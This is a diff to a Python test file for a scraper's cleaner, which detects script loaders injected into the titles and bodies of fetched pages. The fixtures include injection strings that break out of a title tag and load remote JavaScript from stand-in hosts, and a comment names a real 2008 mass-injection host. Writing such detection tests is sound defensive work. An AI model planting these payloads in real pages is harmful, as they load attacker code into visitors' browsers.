@@ -7,7 +7,7 @@ import pytest
 
 from scraper.clean import clean_page
 from tests.clean.conftest import kinds
-from tests.clean.test_structural import HEADLINE, URL, page
+from tests.clean.test_structural import BODY, HEADLINE, URL, page
 
 INJECTED = '"></title><script src="http://www0.loader-example.cn/csrss/w.js"></script><!--'
 
@@ -91,3 +91,34 @@ def test_a_templates_scripts_after_its_paragraphs_stay_the_pages():
     ):
         a = clean_page(page(body=body), url=URL)
         assert not a.hijacked, (body, a.findings)
+
+
+# The same string where the value is printed as text: in the <title> (a browser shows a tag there as
+# letters) and escaped in the headline, its host written without a scheme (v41b rc41b-014, the 2008
+# wave's '<script src=nihaorr1.com/1.js></script>').
+SHOWN = '<script src=loader-example.com/1.js></script>'
+
+
+# variant named_host/cut_shown_loaders (see its commit): it gains one dev page (rc41b-014), below the
+# two-page rule: not wired.
+@pytest.mark.xfail(strict=True, reason="shown-loader reader is a variant, not wired (one dev page)")
+def test_a_loader_shown_as_letters_in_the_title_and_headline_is_cut_from_both():
+    body = f'<h2>{HEADLINE}{SHOWN.replace("<", "&lt;").replace(">", "&gt;")}</h2>' + BODY.replace("</p>", f"{SHOWN}</p>", 1)
+    a = clean_page(page(title=HEADLINE + SHOWN + "-青山区人民政府", body=body), url=URL)
+    assert a.hijacked and "spam_script" in kinds(a), a.findings
+    assert a.title == HEADLINE
+    assert "<script" not in a.text and "会议指出" in a.text
+
+
+def test_markup_a_page_shows_as_its_subject_stays_the_pages():
+    sample = '<pre>&lt;script src="https://cdn.example-cdn.net/lib.js"&gt;&lt;/script&gt;</pre>'
+    for title, body in (
+        ("如何在网页中引用脚本-青山区人民政府", BODY + sample),  # a code sample
+        (HEADLINE + "<script src=/js/title.js></script>-青山区人民政府", BODY),  # a path of the site's own
+    ):
+        a = clean_page(page(title=title, body=body), url=URL)
+        assert not a.hijacked, (title, a.findings)
+    # on a page whose title does carry the loader, the code sample showing the same tag is kept
+    a = clean_page(page(title=HEADLINE + '<script src=https://cdn.example-cdn.net/lib.js></script>', body=BODY + sample), url=URL)
+    assert a.hijacked and a.title == HEADLINE, a.findings
+    assert "lib.js" in a.text and [f.where for f in a.findings] == ["title"], a.findings
